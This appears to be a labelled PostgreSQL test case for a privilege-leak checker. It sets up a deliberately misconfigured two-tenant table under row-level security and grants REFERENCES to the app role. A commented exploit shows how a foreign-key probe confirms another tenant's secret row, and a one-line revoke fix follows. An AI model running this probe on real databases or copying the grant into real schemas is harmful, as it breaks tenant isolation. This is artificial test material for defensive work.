-- verdict: leak
-- kind: references-privilege
-- object: public.keys
-- why: REFERENCES and a schema to create in let the app role build its own foreign key, which asks every tenant's rows
-- severity: medium
-- roles: app_owner app_user
-- exploit-begin
-- create table scratch.probe (tenant_id uuid, code text, foreign key (tenant_id, code) references keys (tenant_id, code));
-- do $d$ begin
--   insert into scratch.probe values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET');
--   perform set_config('probe.hit', 't', false);
-- exception when foreign_key_violation then null;
-- end $d$;
-- select coalesce(current_setting('probe.hit', true) = 't', false) as leaked;
-- exploit-end
-- fix-begin
-- revoke references on keys from app_user;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
create schema scratch authorization app_owner;
grant usage, create on schema scratch to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table keys (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  code text not null,
  unique (tenant_id, code)
);
insert into keys (tenant_id, code) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table keys enable row level security;
create policy tenant_isolation on keys using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
grant select, insert, update, delete on keys to app_user;
reset role;
grant references on keys to app_user;
